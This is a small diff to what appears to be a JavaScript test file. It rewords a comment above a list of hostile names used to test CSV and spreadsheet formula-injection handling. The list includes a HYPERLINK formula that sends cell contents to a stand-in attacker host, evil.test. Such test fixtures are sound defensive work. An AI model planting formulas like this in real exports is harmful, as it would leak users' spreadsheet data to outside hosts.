@@ -15,7 +15,7 @@ after(async () => {
 })
 const ask = askOf(gateway)
 
-/** What a spreadsheet, or a reader of CSV, would trip over. */
+/** Names that a spreadsheet, or a reader of CSV, would trip over. */
 const hostileNames = [
   '=HYPERLINK("http://evil.test/?"&A1,"total")',
   '+1-1',
